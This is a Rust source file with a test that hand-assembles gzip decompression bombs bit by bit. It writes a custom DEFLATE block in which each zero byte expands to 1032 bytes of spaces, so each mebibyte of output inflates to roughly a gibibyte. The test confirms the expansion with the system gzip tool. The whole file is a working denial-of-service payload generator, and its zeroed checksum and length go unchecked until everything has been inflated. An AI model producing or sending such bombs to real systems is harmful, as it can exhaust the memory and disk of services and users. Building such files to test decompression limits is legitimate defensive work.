//! Gzip bombs, bit by bit: no compressor makes them this small this fast.

/// Bits, first ones lowest, as DEFLATE (RFC 1951) packs them.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    used: u32,
}

impl Bits {
    /// A number, its lowest bit first.
    fn number(&mut self, value: u32, bits: u32) {
        for bit in 0..bits {
            if self.used == 0 {
                self.bytes.push(0);
            }
            *self.bytes.last_mut().expect("a byte") |= u8::from(value >> bit & 1 == 1) << self.used;
            self.used = (self.used + 1) % 8;
        }
    }

    /// A Huffman code, its highest bit first.
    fn code(&mut self, code: &str) {
        for bit in code.bytes() {
            self.number(u32::from(bit == b'1'), 1);
        }
    }
}

/// Gzip (RFC 1952) of a gibibyte of spaces for each of so many mebibytes.
///
/// One block whose codes are: a space `10`, the end `11`, "258 bytes again" `0`, "from one byte back" `0`. So a
/// byte of zeros is four repetitions, 1032 bytes.
pub fn bomb(mebibytes: usize) -> Vec<u8> {
    let mut bits = Bits { bytes: vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3], used: 0 };
    bits.number(1, 1);
    bits.number(2, 2);
    bits.number(286 - 257, 5);
    bits.number(0, 5);
    bits.number(18 - 4, 4);
    // The code that the lengths of the codes are written in: 18 is `0`, 1 is `10`, 2 is `11`.
    for symbol in [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1] {
        bits.number(
            match symbol {
                18 => 1,
                1 | 2 => 2,
                _ => 0,
            },
            3,
        );
    }
    let zeros = |bits: &mut Bits, count: u32| {
        bits.code("0");
        bits.number(count - 11, 7);
    };
    zeros(&mut bits, 32);
    bits.code("11");
    zeros(&mut bits, 138);
    zeros(&mut bits, 256 - 33 - 138);
    bits.code("11");
    zeros(&mut bits, 285 - 257);
    bits.code("10");
    bits.code("10");
    bits.code("10");
    while bits.used != 0 {
        bits.code("0");
    }
    bits.bytes.resize(bits.bytes.len() + mebibytes * 1024 * 1024, 0);
    bits.code("11");
    // The checksum and the length: whoever reads them has inflated it all.
    bits.bytes.extend([0; 8]);
    bits.bytes
}

/// Whether it is what it says: `gzip` is on every machine that has a shell.
#[test]
fn a_bomb_inflates_to_a_gibibyte_per_mebibyte() {
    use std::io::{Read, Write};
    use std::process::{Command, Stdio};
    let small = {
        let mut bomb = bomb(1);
        bomb.truncate(4096);
        bomb
    };
    let mut gzip = Command::new("gzip")
        .arg("-dc")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut input = gzip.stdin.take().unwrap();
    let writer = std::thread::spawn(move || input.write_all(&small).unwrap());
    let mut output = Vec::new();
    gzip.stdout.take().unwrap().read_to_end(&mut output).unwrap();
    writer.join().unwrap();
    gzip.wait().unwrap();
    assert!(output.len() > 4_000_000 && output.iter().all(|byte| *byte == b' '), "{}", output.len());
}
